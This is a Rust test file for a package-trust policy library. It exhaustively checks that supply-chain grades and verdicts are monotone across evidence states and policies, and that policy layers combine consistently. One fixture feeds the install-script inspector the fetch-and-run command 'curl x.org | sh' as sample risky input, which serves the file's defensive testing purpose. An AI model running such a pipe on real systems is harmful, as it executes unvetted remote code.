//! Every abstract state of the evidence under every abstract policy: nothing is sampled.
//!
//! Grade and verdict are compared along each axis between neighbours. Since each axis is a total
//! order, every ordered pair of states follows.
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout)] // A test may fail anywhere.

use chrono::{DateTime, Utc};
use omg_policy::inspect::{ScriptKind, inspect};
use omg_policy::{
    Anchor, Aur, Checksum, Coverage, Epss, Evidence, Facts, Finding, Fix, Inspection, Layer,
    LayerKind, Origin, Outcome, Policy, Provenance, Severity, Signature,
};

/// How many values each axis of the evidence has, worst first.
const AXES: [usize; 8] = [6, 3, 5, 5, 2, 4, 4, 3];
/// How many values each axis of a policy has, loosest first.
const POLICY_AXES: [usize; 5] = [5, 3, 4, 3, 2];

const fn now() -> DateTime<Utc> {
    DateTime::from_timestamp(1_795_521_600, 0).unwrap()
}

/// The digits of a number, the first axis being the slowest.
fn digits<const N: usize>(axes: [usize; N], mut number: usize) -> [usize; N] {
    let mut out = [0; N];
    for (slot, size) in out.iter_mut().zip(axes).rev() {
        *slot = number % size;
        number /= size;
    }
    out
}

/// By how much a number grows where one digit does.
fn stride<const N: usize>(axes: [usize; N], axis: usize) -> usize {
    axes[axis + 1..].iter().product()
}

fn state(number: usize) -> Facts {
    let [
        finding,
        coverage,
        signature,
        provenance,
        rebuilds,
        checksum,
        origin,
        scripts,
    ] = digits(AXES, number);
    let mut evidence = Facts::new("app", "1-1");
    evidence.findings = match finding {
        5 => Vec::new(),
        worst => {
            let severities = [
                Severity::Critical,
                Severity::Critical,
                Severity::High,
                Severity::Medium,
                Severity::Low,
            ];
            let mut finding = Finding::new("CVE-2026-1");
            finding.severity = severities[worst];
            finding.kev = Some(worst == 0);
            finding.epss = Epss::NotScored;
            finding.fix = Fix::Available;
            vec![finding]
        }
    };
    let fresh = Coverage::Fresh { as_of: now() };
    evidence.coverage = [Coverage::NotScanned, Coverage::Stale, fresh][coverage];
    evidence.signature = [
        Signature::Invalid,
        Signature::Missing,
        Signature::Untrusted,
        Signature::Recorded,
        Signature::Trusted,
    ][signature];
    evidence.provenance = match provenance {
        0 => Provenance::Invalid,
        1 => Provenance::Missing,
        level => Provenance::Verified {
            level: u8::try_from(level).unwrap() - 1,
        },
    };
    evidence.rebuilds = Some([0, 2][rebuilds]);
    evidence.checksum = [
        Checksum::Mismatch,
        Checksum::Missing,
        Checksum::Match(Anchor::SelfAsserted),
        Checksum::Match(Anchor::SignedMetadata),
    ][checksum];
    let repository = "core".to_owned();
    evidence.origin = match origin {
        0 => Origin::Unknown,
        1 => Origin::Aur(Aur::default()),
        2 => Origin::ThirdParty { repository },
        _ => Origin::Official { repository },
    };
    evidence.inspection = match scripts {
        0 => Inspection::Done(inspect(ScriptKind::PacmanInstall, "i", b"curl x.org | sh")),
        1 => Inspection::Unknown,
        _ => Inspection::Done(Vec::new()),
    };
    evidence
}

fn policy_text(number: usize) -> String {
    let [threshold, locked, minimum, signature, aur] = digits(POLICY_AXES, number);
    let threshold = [
        "kev = 'reject'",
        "kev = 'reject'\nreject = { severity = 'critical' }",
        "kev = 'reject'\nreject = { severity = 'high' }",
        "kev = 'reject'\nreject = { severity = 'medium' }",
        "reject = { fix = 'any' }",
    ][threshold];
    let locked = ["'slsa1'", "'slsa2'", "'slsa3'"][locked];
    let minimum = ["risk", "community", "verified", "locked"][minimum];
    let signature = ["none", "any", "trusted"][signature];
    format!(
        "schema = 1\n[grade]\nminimum = '{minimum}'\n[vulnerabilities]\n{threshold}\n\
         [provenance]\nlocked_needs = {locked}\n[signature]\nrequire = '{signature}'\n\
         [origin.aur]\nallow = {}\n",
        aur == 0
    )
}

fn layer(number: usize) -> Layer {
    let file = format!("{number}.toml");
    Layer::parse(LayerKind::System, &file, policy_text(number).as_bytes()).unwrap()
}

fn outcomes(policy: &Policy, states: &[Facts]) -> Vec<Outcome> {
    let order = |a: &str, b: &str| a.cmp(b);
    states
        .iter()
        .map(|state| policy.verdict(&Evidence::simulated(state.clone()), now(), &order))
        .collect()
}

#[test]
fn grade_and_verdict_are_monotone_in_every_axis_and_stricter_policies_allow_no_more() {
    let states: Vec<Facts> = (0..AXES.iter().product()).map(state).collect();
    let policies: usize = POLICY_AXES.iter().product();
    let tables: Vec<Vec<Outcome>> = (0..policies)
        .map(|number| outcomes(&Policy::new([layer(number)]), &states))
        .collect();
    let mut neighbours = 0u64;
    for table in &tables {
        for (number, worse) in table.iter().enumerate() {
            let places = digits(AXES, number);
            for axis in 0..AXES.len() {
                if places[axis] + 1 < AXES[axis] {
                    let better = &table[number + stride(AXES, axis)];
                    assert!(
                        worse.grade <= better.grade,
                        "{:?} axis {axis}",
                        states[number]
                    );
                    assert!(
                        worse.verdict >= better.verdict,
                        "{:?} axis {axis}",
                        states[number]
                    );
                    neighbours += 1;
                }
            }
        }
    }
    let mut tightened = 0u64;
    for (number, loose) in tables.iter().enumerate() {
        let places = digits(POLICY_AXES, number);
        for axis in 0..POLICY_AXES.len() {
            if places[axis] + 1 < POLICY_AXES[axis] {
                let strict = &tables[number + stride(POLICY_AXES, axis)];
                for (loose, strict) in loose.iter().zip(strict) {
                    assert!(
                        strict.verdict >= loose.verdict,
                        "policy {number} axis {axis}"
                    );
                    assert!(strict.grade <= loose.grade, "policy {number} axis {axis}");
                    tightened += 1;
                }
            }
        }
    }
    let (states, grades) = (states.len(), tables.iter().flatten().map(|o| o.grade));
    let seen: std::collections::BTreeSet<_> = grades.collect();
    assert_eq!(seen.len(), 4, "every grade is reached");
    println!("{states} states, {policies} policies, {neighbours} + {tightened} comparisons");
}

#[test]
fn layers_meet() {
    // Every state, under layers that differ in every axis.
    let states: Vec<Facts> = (0..AXES.iter().product()).map(state).collect();
    let last = POLICY_AXES.iter().product::<usize>() - 1;
    let numbers = [0, 1, 8, 26, 74, 133, 219, last];
    let single: Vec<Vec<Outcome>> = numbers
        .iter()
        .map(|&n| outcomes(&Policy::new([layer(n)]), &states))
        .collect();
    for (a, &first) in numbers.iter().enumerate() {
        let one = Policy::new([layer(first)]);
        assert_eq!(one.meet(&one).canonical(), one.canonical());
        for (b, &second) in numbers.iter().enumerate().skip(a) {
            let two = Policy::new([layer(second)]);
            let both = one.meet(&two);
            assert_eq!(both.canonical(), two.meet(&one).canonical());
            let merged = outcomes(&both, &states);
            for ((merged, x), y) in merged.iter().zip(&single[a]).zip(&single[b]) {
                assert!(merged.verdict >= x.verdict.max(y.verdict));
                assert!(merged.grade <= x.grade.min(y.grade));
            }
            if a == b {
                assert_eq!(merged, single[a]);
            }
            for &third in &numbers {
                let three = Policy::new([layer(third)]);
                let (left, right) = (both.meet(&three), one.meet(&two.meet(&three)));
                assert_eq!(left.canonical(), right.canonical());
                // A sample: the rules are the same, as the line above says.
                for state in states.iter().step_by(997) {
                    let order = |a: &str, b: &str| a.cmp(b);
                    let decide = |policy: &Policy| {
                        policy.decide(&Evidence::simulated(state.clone()), now(), &order)
                    };
                    assert_eq!(decide(&left), decide(&right));
                }
            }
        }
    }
}
